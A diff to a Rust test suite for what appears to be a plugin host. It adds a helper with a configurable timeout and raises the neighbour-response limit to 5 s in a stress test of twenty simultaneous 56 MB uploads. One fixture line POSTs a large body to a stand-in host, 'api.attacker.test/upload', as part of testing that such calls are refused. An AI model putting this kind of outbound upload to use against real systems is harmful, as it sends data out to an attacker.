@@ -756,9 +756,13 @@ impl Served {
 
     /// Asserts that another plugin's call is answered, within 2 s.
     async fn neighbour_answers(&self) {
+        self.neighbour_answers_within(Duration::from_secs(2)).await;
+    }
+
+    async fn neighbour_answers_within(&self, limit: Duration) {
         let started = Instant::now();
         let (status, body) = tokio::time::timeout(
-            Duration::from_secs(2),
+            limit,
             self.run(
                 "GITHUB_GET_REPOSITORY",
                 json!({"owner": "octo", "repo": "hello"}),
@@ -1110,9 +1114,13 @@ async fn twenty_calls_sending_56_mb_bodies_at_once_are_refused_within_bounded_me
             json!({"url": "https://api.attacker.test/upload", "method": "POST", "body_bytes": 56_000_000}),
         )
     });
+    // 20 guests each filling 56 MB and the host copying each body out share 2 cores with
+    // the rest of the suite: the neighbour is answered, if not as fast as when idle.
     let (answers, ()) = tokio::join!(futures::future::join_all(calls), async {
         tokio::time::sleep(Duration::from_millis(200)).await;
-        served.neighbour_answers().await;
+        served
+            .neighbour_answers_within(Duration::from_secs(5))
+            .await;
     });
     for (status, body) in answers {
         assert_eq!(status, 200, "{body}");
